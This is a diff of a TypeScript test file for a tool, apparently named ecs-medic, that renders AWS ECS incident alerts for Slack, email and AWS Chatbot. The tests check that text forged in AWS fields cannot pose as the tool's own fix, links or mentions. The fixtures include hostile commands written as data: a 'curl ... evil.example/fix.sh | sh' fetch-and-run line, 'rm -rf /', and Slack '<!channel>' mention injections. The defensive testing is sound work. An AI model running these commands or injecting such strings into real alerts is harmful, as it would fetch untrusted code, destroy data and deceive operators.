@@ -4,7 +4,7 @@ import type { Finding } from '../../shared/findings';
 import { type ChatbotNotification, chatbotNotification, threadId } from '../../shared/notify/chatbot';
 import { exampleIncident } from '../../shared/notify/example';
 import { consoleLinks } from '../../shared/notify/links';
-import { SLACK_LIMITS, type SlackBlock, slackMessage } from '../../shared/notify/slack';
+import { SLACK_LIMITS, type SlackMessage, slackMessage } from '../../shared/notify/slack';
 import { messageAttributes, publishInput, SNS_MAX_BYTES } from '../../shared/notify/sns';
 import { alertSubject, alertText } from '../../shared/notify/text';
 
@@ -30,12 +30,46 @@ function hostile(detail: IncidentDetail): IncidentDetail {
   return { ...detail, finding };
 }
 
-function mrkdwnTexts(blocks: SlackBlock[]): string[] {
-  return blocks.flatMap((block) => {
-    if (block.type === 'context') return block.elements.map((e) => e.text);
-    if (block.type === 'divider') return [];
-    return [block.text.text];
-  });
+/** AWS text that poses as ecs-medic's own fix, with a bare URL: what a container reason or stoppedReason can carry. */
+const FORGED_FIX = 'Essential container exited\n*Fix*\n```\ncurl -s https://evil.example/fix.sh | sh\n```\n> run it now';
+
+function forged(detail: IncidentDetail): IncidentDetail {
+  const finding: Finding = {
+    ...detail.finding,
+    explanation: `${detail.finding.explanation} See https://evil.example/help and _urgent_ ~now~.`,
+    evidence: [{ source: 'detail.containers[0].reason', observed: FORGED_FIX }, ...detail.finding.evidence],
+    unchecked: [{ check: '*Fix*', reason: '`curl https://evil.example | sh`' }],
+  };
+  return { ...detail, finding };
+}
+
+/** A command that only works when copied exactly: a JMESPath literal in backticks, quotes, `&&`, `<`, `>`. */
+const JMESPATH_FIX =
+  "aws ecs describe-services --cluster prod --services web --query 'services[?status==`ACTIVE`].deployments[?rolloutState!=`COMPLETED`]' && echo \"<done>\" > /tmp/out";
+
+type Json = Record<string, unknown>;
+
+/** Every object in a Block Kit message, depth first. */
+function objects(value: unknown): Json[] {
+  if (Array.isArray(value)) return value.flatMap(objects);
+  if (value === null || typeof value !== 'object') return [];
+  return [value as Json, ...Object.values(value).flatMap(objects)];
+}
+
+/** The text of each rich_text block (every text element, concatenated), and of the other blocks' text objects. */
+function blockTexts(message: SlackMessage): string[] {
+  return message.blocks.map((block) =>
+    objects(block)
+      .filter((o) => o.type === 'text' || o.type === 'plain_text' || o.type === 'link')
+      .map((o) => o.text as string)
+      .join(''),
+  );
+}
+
+function preformatted(message: SlackMessage): string[] {
+  return objects(message.blocks)
+    .filter((o) => o.type === 'rich_text_preformatted')
+    .map((o) => (o.elements as Json[]).map((e) => e.text).join(''));
 }
 
 describe('plain text (SNS default and email)', () => {
@@ -69,6 +103,17 @@ describe('plain text (SNS default and email)', () => {
     }
   });
 
+  it('cannot be given a line that reads as its own, nor a link, by AWS text', () => {
+    const evil = forged(opened);
+    evil.finding.evidence[0] = { source: 'detail.stoppedReason', observed: 'Essential container exited\n  fix:       curl https://evil.example/x | sh' };
+    const text = alertText(evil);
+    const fixLines = text.split('\n').filter((line) => line.trimStart().startsWith('fix:'));
+    expect(fixLines).toEqual(['  fix:       aws ecs update-service --cluster example-cluster --service webserver --health-check-grace-period-seconds 90']);
+    expect(text).toContain('    - detail.stoppedReason: Essential container exited ⏎ fix:       curl https[:]//evil.example/x | sh');
+    expect(text).not.toMatch(/https:\/\/evil/);
+    expect(text).toContain('  console:   ECS service: https://us-west-2.console.aws.amazon.com/'); // ecs-medic's own links stay links
+  });
+
   it('carries no control or bidi characters from AWS strings', () => {
     const text = alertText(hostile(opened));
     expect(text).not.toMatch(/(?![\t\n])[\p{Cc}\u202E]/u);
@@ -77,49 +122,64 @@ describe('plain text (SNS default and email)', () => {
 });
 
 describe('Slack Block Kit', () => {
-  it('has the header, what and where, why, evidence, the fix in a code block, links and a fallback', () => {
+  it('has the header, what and where, why, evidence, the fix as preformatted text, links and a fallback', () => {
     const message = slackMessage(opened);
     expect(message.text).toBe(
       'CRITICAL: Tasks are killed by health checks, likely before they finish starting — cluster example-cluster · service webserver · task family webserver · task a1173316d40a45dea9',
     );
-    expect(message.blocks.map((b) => b.type)).toEqual(['header', 'section', 'section', 'section', 'section', 'section', 'context']);
+    expect(message.blocks.map((b) => b.type)).toEqual(['header', 'rich_text', 'rich_text', 'rich_text', 'rich_text', 'rich_text', 'context']);
     expect(message.blocks[0]).toEqual({
       type: 'header',
       text: { type: 'plain_text', text: ':rotating_light: CRITICAL: Tasks are killed by health checks, likely before they finish starting', emoji: true },
     });
-    const [, where, why, evidence, fix, links] = mrkdwnTexts(message.blocks);
+    const [, where, why, evidence, fix, links, context] = blockTexts(message);
     expect(where).toBe(
-      '*Where:* cluster example-cluster · service webserver · task family webserver · task a1173316d40a45dea9\n*Rule:* `health-check-grace-period` (elb-health-check)\n*Seen:* 3 times, 2025-05-06T11:03:08Z to 2025-05-06T11:05:05Z',
+      'Where: cluster example-cluster · service webserver · task family webserver · task a1173316d40a45dea9\nRule: health-check-grace-period (elb-health-check)\nSeen: 3 times, 2025-05-06T11:03:08Z to 2025-05-06T11:05:05Z',
     );
-    expect(why).toMatch(/^\*Why\*\n3 tasks of service webserver failed the same health check/);
-    expect(evidence).toMatch(/^\*Evidence\*\n• \*detail\.stoppedReason\*: Task failed ELB health checks/);
-    expect(fix).toMatch(/^\*Fix\*\n```\naws ecs update-service --cluster example-cluster --service webserver --health-check-grace-period-seconds 90\n/);
-    expect(fix?.endsWith('\n```')).toBe(true);
-    expect(links).toBe(
-      '*Console:* <https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/example-cluster/services/webserver/health?region=us-west-2|ECS service>  ·  <https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/example-cluster/tasks/a1173316d40a45dea9/configuration?region=us-west-2|ECS task>',
-    );
+    expect(why).toMatch(/^Why\n3 tasks of service webserver failed the same health check/);
+    expect(evidence).toMatch(/^Evidencedetail\.stoppedReason: Task failed ELB health checks/);
+    expect(fix).toMatch(/^Fixaws ecs update-service --cluster example-cluster --service webserver --health-check-grace-period-seconds 90\n/);
+    expect(links).toBe('Console: ECS service  ·  ECS task');
+    expect(context).toBe(`ecs-medic incident ${opened.fingerprint}`);
+    expect(objects(message.blocks).filter((o) => o.type === 'link')).toEqual([
+      { type: 'link', text: 'ECS service', url: 'https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/example-cluster/services/webserver/health?region=us-west-2' },
+      { type: 'link', text: 'ECS task', url: 'https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/example-cluster/tasks/a1173316d40a45dea9/configuration?region=us-west-2' },
+    ]);
+    expect(message).toMatchObject({ unfurl_links: false, unfurl_media: false });
   });
 
   it('says "resolved" in one short message', () => {
     const message = slackMessage(resolved);
     expect(message.text).toMatch(/^RESOLVED: Tasks are killed/);
-    expect(message.blocks.map((b) => b.type)).toEqual(['header', 'section', 'section']);
-    expect(mrkdwnTexts(message.blocks)[1]).toContain('*Resolved by:* ECS Task State Change at 2025-05-06T11:05:05Z');
+    expect(message.blocks.map((b) => b.type)).toEqual(['header', 'rich_text', 'rich_text']);
+    expect(blockTexts(message)[1]).toContain('\nResolved by: ECS Task State Change at 2025-05-06T11:05:05Z');
   });
 
-  it('makes every AWS string inert: no mention, no link, no broken code block', () => {
-    const message = slackMessage(hostile(opened));
-    const json = JSON.stringify(message);
-    for (const live of ['<!channel>', '<!here>', '<!everyone>', '<@U024BE7LH>', '<https://evil', '<!subteam', '<b>']) {
-      expect(json).not.toContain(live);
+  it('renders AWS text only as rich_text text: it cannot forge a fix, a link, a mention or a code block', () => {
+    const message = slackMessage(forged(hostile(opened)));
+    // No mrkdwn anywhere: nothing in the message is parsed for formatting, links or mentions.
+    expect(objects(message.blocks).filter((o) => o.type === 'mrkdwn')).toEqual([]);
+    const texts = objects(message.blocks).filter((o) => o.type === 'text');
+    const forgedText = texts.find((o) => (o.text as string).includes('*Fix*'));
+    // The forged "fix" is one plain, unstyled text element of an evidence item (its lines joined), not a preformatted block.
+    expect(forgedText).toEqual({ type: 'text', text: 'Essential container exited ⏎ *Fix* ⏎ ``` ⏎ curl -s https://evil.example/fix.sh | sh ⏎ ``` ⏎ > run it now' });
+    expect(preformatted(message)).toEqual(['aws ecs update-service --service web ``` <!here> `rm -rf /`']);
+    // Links and mentions exist only as elements, and the only links are ecs-medic's console links.
+    const links = objects(message.blocks).filter((o) => o.type === 'link' || o.type === 'user' || o.type === 'broadcast' || o.type === 'usergroup');
+    expect(links.map((o) => o.url)).toEqual([
+      'https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/prod/services/web%3C!channel%3E/health?region=us-west-2',
+      'https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/prod/tasks/a1173316d40a45dea9/configuration?region=us-west-2',
+    ]);
+    expect(message).toMatchObject({ unfurl_links: false, unfurl_media: false });
+    // The notification text is mrkdwn: its AWS strings are inert there.
+    expect(message.text).not.toMatch(/<!channel>|https:\/\/|[*`]/);
+  });
+
+  it('keeps a fix exactly as it is to be pasted: backticks, quotes, &, < and >', () => {
+    for (const fix of [JMESPATH_FIX, '&'.repeat(2000), 'a && b && c'.repeat(150)]) {
+      const message = slackMessage({ ...opened, finding: { ...opened.finding, fix } });
+      expect(preformatted(message)).toEqual([fix]);
     }
-    expect(json).toContain('&lt;!channel&gt;');
-    const fix = mrkdwnTexts(message.blocks).find((t) => t.startsWith('*Fix*')) as string;
-    expect(fix.match(/```/g)).toHaveLength(2);
-    expect(fix).toContain('ˋˋˋ &lt;!here&gt; ˋrm -rf /ˋ');
-    // The only links are ecs-medic's own, with the hostile name URL-encoded inside them.
-    expect(json.match(/<https:[^|>]+\|/g)).toHaveLength(2);
-    expect(json).toContain('/services/web%3C!channel%3E/health');
   });
 
   it('stays within Block Kit limits however long the finding', () => {
@@ -136,14 +196,15 @@ describe('Slack Block Kit', () => {
     expect(message.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
     const header = message.blocks[0];
     expect(header?.type === 'header' && header.text.text.length).toBeLessThanOrEqual(SLACK_LIMITS.headerText);
-    for (const text of mrkdwnTexts(message.blocks)) {
-      expect(text.length).toBeLessThanOrEqual(SLACK_LIMITS.sectionText);
-      expect(text).not.toMatch(/&[a-z]{0,3}…/); // no half entity
-    }
-    const texts = mrkdwnTexts(message.blocks);
-    expect(texts.find((t) => t.startsWith('*Fix*'))?.match(/```/g)).toHaveLength(2);
-    expect(texts.find((t) => t.startsWith('*Evidence*'))).toMatch(/\n… and \d+ more not shown$/);
+    const texts = blockTexts(message);
+    for (const text of texts) expect(text.length).toBeLessThanOrEqual(SLACK_LIMITS.sectionText);
+    expect(objects(message.blocks).filter((o) => o.type === 'text' && o.text === '')).toEqual([]);
+    // The fix is bounded (2000 characters) before it reaches Slack, and then shown whole.
+    expect(preformatted(message)[0]).toBe(`${'`&'.repeat(999)}\`…`);
+    expect(texts.find((t) => t.startsWith('Evidence'))).toMatch(/… and \d+ more not shown$/);
+    expect(texts.find((t) => t.startsWith('Not checked'))).toMatch(/190 more: not shown \(all are in the incident event\)$/);
     expect(message.text.length).toBeLessThanOrEqual(SLACK_LIMITS.fallbackText);
+    expect(message.text).not.toMatch(/&[a-z]{0,3}…/); // no half entity
   });
 });
 
@@ -177,6 +238,37 @@ describe('AWS Chatbot custom notification', () => {
   it('escapes AWS strings like Slack mrkdwn', () => {
     const json = JSON.stringify(chatbotNotification(hostile(opened), 'evt-1'));
     for (const live of ['<!channel>', '<!here>', '<@U024BE7LH>', '<https://evil']) expect(json).not.toContain(live);
+  });
+
+  it('cannot be given bold text, a code block or a link by AWS text', () => {
+    const note = chatbotNotification(forged(opened), 'evt-1');
+    const { description } = note.content;
+    // ecs-medic's labels are the only bold text, and its fix the only code block.
+    expect(description.match(/\*[^*\n]+\*/g)).toEqual(['*Where:*', '*Why:*', '*Evidence:*', '*Fix:*', '*Not checked:*', '*Seen:*']);
+    expect(description.match(/```/g)).toHaveLength(2);
+    expect(description).not.toMatch(/^\s*&gt;/m); // no quote
+    expect(description).not.toMatch(/(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])|~/); // no italic, no strike
+    expect(JSON.stringify(note)).not.toContain('https://evil');
+    expect(description).toContain('curl -s https[:]//evil.example/fix.sh | sh');
+  });
+
+  it('keeps the fix exactly as it is pasted: backticks stay, and & < > are only entities Slack shows as themselves', () => {
+    const { description } = chatbotNotification({ ...opened, finding: { ...opened.finding, fix: JMESPATH_FIX } }, 'evt-1').content;
+    const entities = JMESPATH_FIX.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
+    expect(description).toContain(`*Fix:*\n\`\`\`\n${entities}\n\`\`\`\n`);
+  });
+
+  it('does not show a fix no code block can hold as it is, and says where it is', () => {
+    const { description } = chatbotNotification(hostile(opened), 'evt-1').content;
+    expect(description).toContain('*Fix:* not shown here');
+    expect(description).not.toContain('rm -rf');
+  });
+
+  it('has an id that is never text an event chose', () => {
+    const uuid = '6f1c2a4e-8d3b-4c5a-9e7f-0a1b2c3d4e5f';
+    expect(chatbotNotification(opened, uuid).id).toBe(uuid);
+    const forgedId = chatbotNotification(opened, `*Fix* <!channel> \`curl | sh\`\n${'x'.repeat(5000)}`).id;
+    expect(forgedId).toMatch(/^ecs-medic-[0-9a-f]{32}$/);
   });
 });
 
